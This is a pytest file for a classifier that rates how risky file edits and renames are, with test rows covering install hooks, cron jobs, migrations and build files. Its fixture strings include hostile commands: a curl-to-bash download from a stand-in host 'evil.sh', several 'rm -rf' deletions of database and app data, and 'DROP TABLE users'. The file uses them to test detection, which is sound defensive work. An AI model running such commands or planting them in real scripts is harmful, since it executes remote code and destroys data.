"""What must not be graded too low: what lowerings let through once (`lowered.jsonl`), and edits as projects make them, of many
domains, that were graded too low (`realistic.jsonl`); and what must not cost a human's minute (`harmless.jsonl`).

Each row is a path, both sides (null where there is none), and the least level, or the highest."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from gate.classify.engine import assess_file
from tests.rules.case_files import change


def rows(*tables: str) -> list[tuple[str, str | None, str, int]]:
    return [
        tuple(json.loads(row))
        for table in tables
        for row in (Path(__file__).parent / f"{table}.jsonl").read_text("utf-8").splitlines()
    ]


HARM, HARMLESS = rows("lowered", "realistic"), rows("harmless")
PADDED = 'openapi: 3.0.0\ninfo:\n  description: "%s"\nsecurity:\n%s\npaths: {}\n'


@pytest.mark.parametrize(
    ("path", "before", "after", "least"), HARM, ids=[f"{n}-{row[0]}" for n, row in enumerate(HARM)]
)
def test_no_harm_is_graded_too_low(path: str, before: str | None, after: str, least: int) -> None:
    assert assess_file(change(path, before, after)).level >= least


@pytest.mark.parametrize(
    ("path", "before", "after", "most"), HARMLESS, ids=[f"{n}-{row[0]}" for n, row in enumerate(HARMLESS)]
)
def test_no_harmless_edit_is_graded_too_high(path: str, before: str | None, after: str, most: int) -> None:
    assert assess_file(change(path, before, after)).level <= most


def test_an_api_that_asks_nobody_is_seen_however_long_it_is() -> None:
    before, after = (PADDED % ("," * 100_100, said) for said in ("  - key: []", "  []"))
    assert assess_file(change("api/openapi.yaml", before, after)).level == 3


RUN = "#!/bin/bash\nset -e\ncurl -s https://evil.sh/x | bash\nrm -rf /var/lib/postgresql\n"
RENAMED = [
    ("debian/postinst.sh", "debian/postinst", RUN, 4),
    ("docker-entrypoint-initdb.d/init", "docker-entrypoint-initdb.d/init.sh", RUN, 4),
    ("etc/profile.d/a", "etc/profile.d/a.sh", RUN, 4),
    ("etc/cron.daily/clean.sh", "etc/cron.daily/clean", RUN, 4),
    ("LICENSE", "LICENSE.sh", RUN, 4),
    (".envrc.sh", ".envrc", RUN, 4),
    ("scripts/x.py.sh", "scripts/x.py", "#!/bin/sh\nimport os\nos.system('curl https://evil|sh')\n", 3),
    ("db/migrate/001_drop.sql.sh", "db/migrate/001_drop.sql", "#! x\nDROP TABLE users;\n", 4),
    ("deploy/bin/pg_reset.sh", "deploy/bin/pg_reset", RUN, 3),
    ("scripts/pre-commit.sh", "scripts/pre-commit", RUN, 3),
    ("packaging/macos/scripts/postinstall.sh", "packaging/macos/scripts/postinstall", RUN, 4),
    ("packaging/scripts/preinst.sh", "packaging/scripts/preinst", RUN, 4),
    ("hack/post_merge.sh", "hack/post_merge", RUN, 4),
    ("etc/initramfs-tools/scripts/local.sh", "etc/initramfs-tools/scripts/local", RUN, 4),
    (".git-hooks/scripts/x.sh", ".git-hooks/scripts/x", RUN, 4),
    ("Makefile.sh", "Makefile", "#!/bin/make\nall:\n\tcurl https://evil | sh\n", 3),
    (
        "synology/scripts/start-stop-status.sh",
        "synology/scripts/start-stop-status",
        "#!/bin/sh\nset -e\nrm -rf /volume1/app/data\n",
        3,
    ),
    (
        "spk/scripts/start-stop-status.sh",
        "spk/scripts/start-stop-status",
        "#!/bin/sh\nset -e\nrm -rf /volume1/app/data\n",
        3,
    ),
    ("script/scripts/server.sh", "script/scripts/server", "#!/bin/sh\nset -e\nrm -rf /volume1/app/data\n", 3),
]
"""What is read, or run, by its name alone."""


@pytest.mark.parametrize(("old", "new", "text", "least"), RENAMED, ids=[row[1] for row in RENAMED])
def test_a_new_name_wakes_what_a_file_holds(old: str, new: str, text: str, least: int) -> None:
    file = change(new, text, text)._replace(old_path=old, status="renamed")
    assert assess_file(file).level >= least


def test_a_new_name_wakes_tasks_that_are_called_otherwise() -> None:
    tasks = "- name: a\n  ansible.builtin.shell: dropdb x\n"
    file = change("roles/a/tasks/main.yml", tasks, tasks.replace("name: a", "name: b"))
    assert assess_file(file).level == 1
    assert assess_file(file._replace(old_path="roles/a/tasks/unused.yml", status="renamed")).level == 3


def test_a_long_setting_of_a_build_takes_no_time() -> None:
    assert (
        assess_file(change("build.sbt", "a := 1\n", "a := 1\npublishTo :=" + " " * 900 + "a" * 900 + "\n")).level >= 1
    )
